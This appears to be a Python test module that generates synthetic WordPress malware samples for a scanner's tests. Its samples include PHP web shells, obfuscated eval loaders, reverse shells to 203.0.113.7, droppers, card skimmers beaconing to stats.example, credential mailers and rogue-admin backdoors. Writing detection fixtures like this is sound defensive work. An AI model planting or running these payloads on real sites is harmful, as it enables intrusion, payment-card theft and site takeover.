"""Malicious samples, written for these tests: families with many variants each.

None of them is real malware, and none reaches another machine: names of hosts end in `.example`.
"""

import base64
import codecs
import random
import zlib
from collections.abc import Callable, Iterator
from dataclasses import dataclass
from itertools import pairwise

PNG = b"\x89PNG\r\n\x1a\n\0\0\0\rIHDR\0\0\0\x01\0\0\0\x01\x08\2\0\0\0\x90wS\xde"
JPEG = b"\xff\xd8\xff\xe0\0\x10JFIF\0\1\1\0\0\1\0\1\0\0"
GIF = b"GIF89a\1\0\1\0\x80\0\0\xff\xff\xff\0\0\0!\xf9\4\1\0\0\0\0,"
INPUTS = ("GET", "POST", "REQUEST", "COOKIE")
COMMANDS = ("system", "passthru", "shell_exec", "exec", "popen")


@dataclass(frozen=True)
class Sample:
    family: str
    path: str
    content: bytes


Variant = tuple[str, str]
"""The path, and the code."""
Family = Callable[[random.Random], Iterator[Variant | tuple[str, bytes]]]


def _name(chance: random.Random) -> str:
    return "".join(chance.choice("abcdefghijkmnopqrstuvwxyz") for _ in range(chance.randint(3, 9)))


def _place(chance: random.Random, extension: str = "php") -> str:
    folder = chance.choice(
        ["plugins/forms/inc", "themes/shop/lib", "uploads/2026/11", "mu-plugins", "languages"]
    )
    return f"wp-content/{folder}/{_name(chance)}.{extension}"


def _payload(chance: random.Random) -> str:
    return f"@eval($_{chance.choice(INPUTS)}['{_name(chance)}']);"


def _base64(text: str) -> str:
    return base64.b64encode(text.encode()).decode()


def _deflate(text: str) -> str:
    packer = zlib.compressobj(9, zlib.DEFLATED, -15)
    return base64.b64encode(packer.compress(text.encode()) + packer.flush()).decode()


def _eval_request(chance: random.Random) -> Iterator[Variant]:
    for source in INPUTS:
        for form in (
            "<?php @eval($_{0}['{1}']); ?>",
            '<?php eval(stripslashes($_{0}["{1}"]));',
            "<?php if(isset($_{0}['{1}'])){{ eval(base64_decode($_{0}['{1}'])); exit; }}",
            "<?php assert($_{0}['{1}']);",
            "<?php eval/* {1} */($_{0}['{1}']);",
            "<?php EvAl (  $_{0} [ '{1}' ] ) ;",
        ):
            yield _place(chance), form.format(source, _name(chance))


def _command_request(chance: random.Random) -> Iterator[Variant]:
    for command in COMMANDS:
        for form in (
            "<?php echo {0}($_GET['{1}']);",
            "<?php {0}($_REQUEST['{1}'].' 2>&1');",
            "<?php if (!empty($_POST['{1}'])) {{ {0}(base64_decode($_POST['{1}'])); }}",
        ):
            yield _place(chance), form.format(command, _name(chance))
    for source in INPUTS:
        yield _place(chance), f"<?php echo `$_{source}[{_name(chance)}]`;"


def _request_call(chance: random.Random) -> Iterator[Variant]:
    for source in INPUTS:
        name, other = _name(chance), _name(chance)
        yield _place(chance), f"<?php $_{source}['{name}']($_{source}['{other}']);"
        yield _place(chance), f"<?php $f=$_{source}['{name}'];$f($_{source}['{other}']);"
        yield _place(chance), f'<?php ${{"_{source}"}}["{name}"](${{"_{source}"}}["{other}"]);'


def _encoded(chance: random.Random) -> Iterator[Variant]:
    for _ in range(4):
        code = _payload(chance)
        rot = codecs.encode(_base64(code), "rot13")
        yield _place(chance), f"<?php eval(base64_decode('{_base64(code)}'));"
        yield _place(chance), f"<?php eval(gzinflate(base64_decode('{_deflate(code)}')));"
        yield _place(chance), f"<?php eval(base64_decode(str_rot13('{rot}')));"
        yield _place(chance), f"<?php $x=base64_decode('{_base64(code)}');\neval($x);"
        yield (
            _place(chance),
            f"<?php eval(strrev('{code[::-1]}'));"
            if "'" not in code
            else (f'<?php eval(strrev("{code.replace(chr(39), "")[::-1]}"));'),
        )
        yield _place(chance), f"<?php eval(hex2bin('{code.encode().hex()}'));"
        yield _place(chance), f"<?php eval('?>'.base64_decode('{_base64('<?php ' + code)}'));"


def _nested(chance: random.Random) -> Iterator[Variant]:
    for depth in range(2, 8):
        code = _payload(chance)
        for _ in range(depth):
            code = f"eval(gzinflate(base64_decode('{_deflate(code)}')));"
        yield _place(chance), f"<?php {code}"


def _split(chance: random.Random) -> Iterator[Variant]:
    for function in ("assert", "eval", "system", "passthru"):
        half = len(function) // 2
        left, right = function[:half], function[half:]
        variable, name = _name(chance), _name(chance)
        yield _place(chance), f"<?php ${variable}='{left}'.'{right}';${variable}($_POST['{name}']);"
        yield _place(chance), f"<?php $a='{left}';$b='{right}';$c=$a.$b;$c($_REQUEST['{name}']);"
        letters = "".join(f"chr({ord(each)})." for each in function).rstrip(".")
        yield _place(chance), f"<?php ${variable}={letters};${variable}($_GET['{name}']);"
        escaped = "".join(f"\\x{ord(each):02x}" for each in function)
        yield _place(chance), f"<?php ${variable}=\"{escaped}\";${variable}($_GET['{name}']);"
        items = ",".join(f"'{each}'" for each in function)
        yield _place(chance), f"<?php ${variable}=implode('',[{items}]);${variable}($_COOKIE['{name}']);"
        yield _place(chance), f"<?php ${variable}=strrev('{function[::-1]}');${variable}($_POST['{name}']);"
        mixed = "".join(f"{each}#" for each in function)
        yield (
            _place(chance),
            f"<?php ${variable}=str_replace('#','','{mixed}');${variable}($_POST['{name}']);",
        )


def _indexed(chance: random.Random) -> Iterator[Variant]:
    for function in ("assert", "system", "eval", "exec", "passthru"):
        alphabet = list("abcdefghijklmnopqrstuvwxyz_")
        chance.shuffle(alphabet)
        text = "".join(alphabet)
        letters = ".".join(f"$k[{text.index(each)}]" for each in function)
        yield _place(chance), f"<?php $k='{text}';$f={letters};$f($_POST['{_name(chance)}']);"


def _xored(chance: random.Random) -> Iterator[Variant]:
    for function in ("assert", "system"):
        key = "".join(chance.choice("ABCDEFGHIJKLMNOPQRSTUVWXYZ") for _ in function)
        hidden = "".join(chr(ord(one) ^ ord(other)) for one, other in zip(function, key, strict=True))
        if hidden.isprintable() and "'" not in hidden and "\\" not in hidden:
            yield _place(chance), f"<?php $f='{hidden}'^'{key}';$f($_POST['{_name(chance)}']);"


def _escaped_names(chance: random.Random) -> Iterator[Variant]:
    for name in ("_POST", "_GET", "_REQUEST", "GLOBALS", "_COOKIE"):
        escaped = "".join(f"\\x{ord(each):02x}" for each in name)
        octal = "".join(f"\\{ord(each):o}" for each in name)
        yield _place(chance), f'<?php ${{"{escaped}"}}["a"]=1; @eval(${{"{escaped}"}}["{_name(chance)}"]);'
        yield _place(chance), f'<?php $v=${{"{octal}"}}; system($v["{_name(chance)}"]);'


def _callbacks(chance: random.Random) -> Iterator[Variant]:
    for function in ("assert", "system", "exec", "passthru"):
        name = _name(chance)
        yield _place(chance), f"<?php array_map('{function}', array($_POST['{name}']));"
        yield _place(chance), f"<?php call_user_func('{function}', $_GET['{name}']);"
        yield _place(chance), f"<?php register_shutdown_function('{function}', $_REQUEST['{name}']);"
        yield _place(chance), f"<?php $a=[$_POST['{name}']]; usort($a, '{function}');"
        yield _place(chance), f"<?php call_user_func($_GET['{name}'], $_GET['{function}']);"


def _made_functions(chance: random.Random) -> Iterator[Variant]:
    for source in INPUTS:
        name = _name(chance)
        yield _place(chance), f"<?php $f=create_function('',$_{source}['{name}']);$f();"
        yield _place(chance), f"<?php preg_replace('/.*/e',$_{source}['{name}'],'');"


def _includes(chance: random.Random) -> Iterator[Variant]:
    for source in INPUTS:
        yield _place(chance), f"<?php include($_{source}['{_name(chance)}']);"
    for target in ("https://files.example/x.txt", "data:text/plain;base64,PD9waHA=", "php://input"):
        yield _place(chance), f"<?php @include '{target}';"
    for extension in ("ico", "png", "jpg"):
        yield _place(chance), f"<?php @include '/srv/site/wp-content/uploads/.{_name(chance)}.{extension}';"
    octal = "".join(f"\\{ord(each):o}" for each in "/srv/site/x.ico")
    yield _place(chance), f'<?php @include "{octal}";'


def _shells(chance: random.Random) -> Iterator[Variant]:
    for shell in ("/bin/sh", "/bin/bash"):
        yield (
            _place(chance),
            f"<?php $s=fsockopen('203.0.113.7',4444);$p=proc_open('{shell} -i',array(0=>$s,1=>$s,2=>$s),$q);",
        )
    yield _place(chance), "<?php exec(\"/bin/bash -c 'bash -i >& /dev/tcp/203.0.113.7/4444 0>&1'\");"
    perl = '#!/usr/bin/perl\nuse Socket;\nsocket(S,PF_INET,SOCK_STREAM,6);open(STDIN,">&S");exec("/bin/sh -i");\n'  # noqa: E501
    yield _place(chance, "pl"), perl
    python = 'import socket,subprocess,os\ns=socket.socket()\nos.dup2(s.fileno(),0)\nsubprocess.call(["/bin/sh","-i"])\n'  # noqa: E501
    yield _place(chance, "py"), python
    yield _place(chance, "sh"), "#!/bin/sh\nnc -e /bin/sh 203.0.113.7 4444\n"


def _uploaders(chance: random.Random) -> Iterator[Variant]:
    for function in ("move_uploaded_file", "copy"):
        field = _name(chance)
        form = f'<form method="post" enctype="multipart/form-data"><input type="file" name="{field}"></form>'
        store = f"{function}($_FILES['{field}']['tmp_name'], $_FILES['{field}']['name'])"
        yield _place(chance), f"{form}<?php if(@{store}) echo 'ok';"
        yield _place(chance), f"<?php if(isset($_GET['{_name(chance)}'])) {{ {store}; }} ?>{form}"
    for source in ("POST", "REQUEST"):
        name = _name(chance)
        yield _place(chance), f"<?php file_put_contents($_{source}['{name}'], $_{source}['c']);"
        yield _place(chance), f"<?php $h=fopen('x.php','w');fwrite($h,base64_decode($_{source}['{name}']));"


def _droppers(chance: random.Random) -> Iterator[Variant]:
    for _ in range(3):
        code = _base64(f"<?php {_payload(chance)}")
        name = _name(chance)
        yield _place(chance), f"<?php file_put_contents('{name}.php', base64_decode('{code}'));"
        yield (
            _place(chance),
            f"<?php copy('https://files.example/{name}.txt', dirname(__FILE__).'/{name}.php');",
        )
        yield _place(chance), f"<?php $c=file_get_contents('https://files.example/{name}'); eval('?>'.$c);"
        yield _place(chance), f"<?php shell_exec('wget -q https://files.example/{name} -O /tmp/{name}');"


def _file_managers(chance: random.Random) -> Iterator[Variant]:
    for command in COMMANDS:
        yield (
            _place(chance),
            "<?php error_reporting(0); $d=isset($_GET['d'])?$_GET['d']:getcwd(); chdir($d);"
            " echo php_uname().ini_get('disable_functions');"
            f" if($_POST['x']) echo {command}($_POST['x']); if($_GET['u']) unlink($_GET['u']);"
            " if($_GET['r']) rename($_GET['r'],$_GET['n']); chmod($_GET['c'],0777);"
            " foreach(scandir($d) as $f) echo $f; ?><form method=post><textarea name=x></textarea></form>",
        )
    for name in ("FilesMan", "b374k", "c99shell", "IndoXploit", "WSO 2.5", "Mini Shell"):
        yield _place(chance), f"<?php /* {name} */ if($_POST['p']) {{ unlink($_POST['p']); }} $t='{name}';"


def _images(chance: random.Random) -> Iterator[tuple[str, bytes]]:
    for extension, head in (("png", PNG), ("jpg", JPEG), ("gif", GIF)):
        for _ in range(4):
            code = f"<?php {_payload(chance)} ?>".encode()
            noise = bytes(chance.randrange(256) for _ in range(400))
            yield _place(chance, extension), head + noise + b"\n" + code
            yield _place(chance, "php"), head + noise + b"\n" + code
    yield _place(chance, "ico"), f"<?php\n$x='{_name(chance)}';{_payload(chance)}".encode()
    yield _place(chance, "svg"), b"<svg xmlns='x'></svg><?php system($_GET['c']); ?>"


def _in_uploads(chance: random.Random) -> Iterator[Variant]:
    for code in (
        "$a=$_SERVER['HTTP_X'];$a();",
        "include 'x.inc';",
        "mail('a@b.example','s','t');",
        "$f='x';$f(1);",
        "readfile('/etc/passwd');",
        "phpinfo();",
    ):
        for extension in ("php", "phtml", "php5"):
            yield f"wp-content/uploads/2026/{_name(chance)}.{extension}", f"<?php {code}"


def _settings(chance: random.Random) -> Iterator[Variant]:
    for extension in ("jpg", "png", "txt", "ico"):
        yield "wp-content/uploads/.htaccess", f"AddHandler application/x-httpd-php .{extension}\n"
        yield "wp-content/uploads/.htaccess", f"AddType application/x-httpd-php .{extension} .html\n"
    yield "wp-content/.user.ini", f"auto_prepend_file = /srv/site/wp-content/{_name(chance)}.jpg\n"
    yield "wp-content/.htaccess", f"php_value auto_prepend_file '{_name(chance)}.php'\n"
    for engine in ("google", "bing", "yahoo"):
        condition = f"RewriteEngine On\nRewriteCond %{{HTTP_REFERER}} ^.*{engine}.*$ [NC]\n"
        yield "wp-content/.htaccess", f"{condition}RewriteRule ^(.*)$ https://spam.example/in.php [R=301,L]\n"


def _administrators(chance: random.Random) -> Iterator[Variant]:
    for source in ("GET", "REQUEST", "COOKIE"):
        name = _name(chance)
        yield (
            _place(chance),
            f"<?php if(isset($_{source}['{name}'])) {{ $u=wp_create_user('{name}','secret','a@b.example');"
            " $o=new WP_User($u); $o->set_role('administrator'); }",
        )
        yield (
            _place(chance),
            f"<?php if($_{source}['{name}']=='letmein') {{ $u=get_users(['role'=>'administrator'])[0];"
            " wp_set_current_user($u->ID); wp_set_auth_cookie($u->ID); }",
        )


def _passwords(chance: random.Random) -> Iterator[Variant]:
    for source in INPUTS:
        digest = "".join(chance.choice("0123456789abcdef") for _ in range(32))
        gate = f"md5($_{source}['{_name(chance)}'])=='{digest}'"
        yield (
            _place(chance),
            f"<?php if({gate}) {{ $c=$_{source}['c']; file_put_contents('y.txt',$c); eval($c); }}",
        )


def _mailers(chance: random.Random) -> Iterator[Variant]:
    for field in ("emails", "maillist", "list", "recipients"):
        yield (
            _place(chance),
            f"<?php set_time_limit(0); $l=explode(\"\\n\",$_POST['{field}']); foreach($l as $to)"
            " { @mail($to,$_POST['subject'],$_POST['body'],$_POST['from']); }",
        )


def _stolen_forms(chance: random.Random) -> Iterator[Variant]:
    for field in ("password", "cvv", "card_number_pin", "otp_code"):
        yield (
            _place(chance),
            f"<?php $m='box{_name(chance)}@gmail.com'; $t=$_POST['{field}'].$_SERVER['REMOTE_ADDR']; mail($m,'x',$t);",  # noqa: E501
        )
        yield (
            _place(chance),
            f"<?php file_get_contents('https://api.telegram.org/bot1:x/sendMessage?text='.$_POST['{field}']);",
        )


def _cloaking(chance: random.Random) -> Iterator[Variant]:
    for bot in ("Googlebot", "bingbot", "YandexBot", "Slurp"):
        yield (
            _place(chance),
            f"<?php if(strpos($_SERVER['HTTP_USER_AGENT'],'{bot}')!==false)"
            f" {{ echo file_get_contents('https://spam.example/{_name(chance)}'); exit; }}",
        )
    for word in ("casino", "viagra", "slot"):
        link = f'<a href="https://spam.example/{_name(chance)}">{word} online</a>'
        yield _place(chance, "html"), f'<div style="position:absolute;left:-9999px">{link}{link}{link}</div>'


def _goto(chance: random.Random) -> Iterator[Variant]:
    for _ in range(4):
        labels = ["".join(chance.choice("ABCDEFGHIJKLMNOP") for _ in range(5)) for _ in range(12)]
        jumps = "".join(f"goto {one}; {other}: $x.='{_name(chance)}'; " for one, other in pairwise(labels))
        yield _place(chance), f"<?php {jumps} {labels[0]}: eval($x.$_POST['q']);"


def _skimmers(chance: random.Random) -> Iterator[Variant]:
    host = "https://stats.example/c"
    for send in (
        f"new Image().src='{host}?d='+btoa(JSON.stringify(d));",
        f"navigator.sendBeacon('{host}',btoa(JSON.stringify(d)));",
        f"var i=document.createElement('img');i.src='{host}?'+btoa(JSON.stringify(d));",
    ):
        for event in ("submit", "change", "blur"):
            yield (
                _place(chance, "js"),
                f"document.addEventListener('{event}',function(){{var d={{}};document.querySelectorAll('input')"  # noqa: E501
                ".forEach(function(e){d[e.name]=e.value});d.card_number=1;d.cvv=2;" + send + "});",
            )
    yield (
        _place(chance, "js"),
        "if(location.href.indexOf('checkout')>0){var s='';var a=document.querySelectorAll('input, select');"
        "for(var i=0;i<a.length;i++){s+=a[i].value}(new Image).src='https://stats.example/p?'+s;}",
    )


def _script_loaders(chance: random.Random) -> Iterator[Variant]:
    for _ in range(3):
        url = f"https://{_name(chance)}.example/l.js"
        codes = ",".join(str(ord(each)) for each in f"var s='{url}';")
        numbers = ",".join(str(ord(each)) for each in url)
        yield _place(chance, "js"), f"eval(String.fromCharCode({codes}));"
        yield _place(chance, "js"), f"eval(atob('{_base64(url * 3)}'));"
        yield _place(chance, "js"), f"var s=document.createElement('script');s.src=atob('{_base64(url)}');"
        yield (
            _place(chance, "js"),
            f"var s=document.createElement('script');s.src=String.fromCharCode({numbers});",
        )
        yield (
            _place(chance, "js"),
            f"if(/google|bing/.test(document.referrer)){{window.location.href=atob('{_base64(url)}');}}",
        )
    yield _place(chance, "js"), "if(ndsw===undefined){var ndsw=true;(function(){var x=1;})();}"
    yield _place(chance, "js"), "var m=new CoinHive.Anonymous('key');m.start();"
    yield _place(chance, "html"), '<iframe src="https://bad.example/x" width="1" height="1"></iframe>'


def _programs(chance: random.Random) -> Iterator[tuple[str, bytes]]:
    yield f"wp-content/uploads/{_name(chance)}", b"\x7fELF\2\1\1" + bytes(200)
    yield (
        f"wp-content/uploads/{_name(chance)}.exe",
        b"MZ" + bytes(70) + b"This program cannot be run in DOS mode",
    )
    yield "wp-content/config.json", b'{"pools":[{"url":"stratum+tcp://pool.example:3333"}],"donate-level":1}'


def _huge(chance: random.Random) -> Iterator[tuple[str, bytes]]:
    for size in (1 << 20, 5 << 20):
        padding = b"<?php\n" + b"// an ordinary line of a long comment\n" * (size // 38)
        yield _place(chance), padding + _payload(chance).encode()
        yield _place(chance), b"<?php " + _payload(chance).encode() + b" ?>" + b" " * size


FAMILIES: dict[str, Family] = {
    family.__name__.removeprefix("_"): family
    for family in (
        *(_eval_request, _command_request, _request_call, _encoded, _nested, _split, _indexed, _xored),
        *(
            _escaped_names,
            _callbacks,
            _made_functions,
            _includes,
            _shells,
            _uploaders,
            _droppers,
            _file_managers,
        ),
        *(
            _images,
            _in_uploads,
            _settings,
            _administrators,
            _passwords,
            _mailers,
            _stolen_forms,
            _cloaking,
            _goto,
        ),
        *(_skimmers, _script_loaders, _programs, _huge),
    )
}


def make_samples(seed: int) -> list[Sample]:
    """The same for the same seed."""
    made = []
    for name, family in FAMILIES.items():
        for path, content in family(random.Random(f"{seed} {name}")):  # noqa: S311 - not for secrets
            made.append(Sample(name, path, content.encode() if isinstance(content, str) else content))
    return made
